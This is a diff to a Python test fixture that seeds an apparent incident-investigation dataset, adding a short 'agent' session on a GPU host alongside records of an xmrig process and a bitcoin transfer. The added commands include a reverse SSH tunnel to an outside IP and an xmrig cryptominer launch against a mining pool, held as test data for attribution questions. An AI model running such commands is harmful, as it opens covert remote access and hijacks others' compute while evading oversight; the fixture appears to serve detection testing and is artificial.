@@ -104,7 +104,12 @@ def loaded_case(tmp_path_factory):
     insert(case, "gpu_processes", [{"ts": at(0), "host": "g", "gpu_index": 0, "pid": 1,
                                     "process_name": "xmrig"}])
     insert(case, "agent_actions", [{"ts": at(3), "host": "sb-07",
-                                    "command": "send 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"}])
+                                    "command": "send 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"}]
+           # a short agent session on the GPU host (the attribution questions need one)
+           + [{"ts": at(-10 + 2 * i), "host": "g", "run_id": "r1", "actor": "agent",
+               "command": c} for i, c in enumerate(
+                   ["ls", "nvidia-smi", "ssh -R 2222:localhost:22 tun@198.51.100.23",
+                    "xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u x"])])
     insert(case, "ledger_transfers", [{"ts": at(4), "chain": "bitcoin", "asset": "BTC",
                                        "from_address": "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
                                        "to_address": "x", "amount": "1.5"}])
